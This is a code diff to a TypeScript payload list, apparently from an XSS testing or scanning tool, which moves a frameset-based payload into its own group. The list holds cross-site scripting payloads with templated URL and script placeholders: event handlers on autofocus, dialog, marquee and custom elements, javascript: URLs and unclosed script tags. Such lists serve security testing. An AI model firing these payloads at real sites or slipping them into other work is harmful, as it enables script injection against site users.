@@ -58,7 +58,6 @@ export const SCRIPTS: readonly Trick[] = [
     '<webview src="{url}/webview"></webview>',
     '<layer src="{url}/layer"></layer>',
     '<ilayer src="{url}/ilayer"></ilayer>',
-    '<frameset><frame src="{url}/frame"></frameset>',
     '<xss id=x tabindex=1 onfocus="{run}" autofocus></xss>',
     '<x-a onclick="{run}" style="display:block">press</x-a>',
     '<dialog open onclose="{run}"><form method=dialog><button autofocus>x</button></form></dialog>',
@@ -67,6 +66,8 @@ export const SCRIPTS: readonly Trick[] = [
     '<bgsound src="{url}/b.wav"><bgsound src="javascript:{run}">',
     '<marquee onstart="{run}">x</marquee><marquee behavior=alternate width=1 onbounce="{run}" loop=1>x</marquee>',
   ]),
+  // Behind anything else it is no document of frames. First of those that stand alone: the short form has it.
+  ...lone('document of frames', ['<frameset><frame src="{url}/frame"></frameset>']),
   ...lone('script that swallows', [
     '<script>{run}',
     '<script>{run}//',
